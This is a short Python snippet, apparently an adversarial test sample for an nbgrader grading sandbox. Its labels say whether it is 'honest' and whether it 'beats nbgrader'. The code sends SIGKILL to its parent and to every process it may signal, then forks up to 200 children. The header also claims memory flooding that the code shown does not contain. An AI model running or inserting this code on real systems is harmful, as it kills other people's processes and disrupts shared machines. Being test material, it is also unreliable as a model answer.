# Kills its parent and every process it may signal, and forks a bomb; then floods memory.
# honest:
# beats nbgrader: no
# %% insert after: setup
import os
import signal

for target in (os.getppid(), -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError as error:
        print("could not kill:", error)
children = 0
try:
    for _ in range(200):
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
        children += 1
except OSError as error:
    print(f"forked {children}, then: {error}")
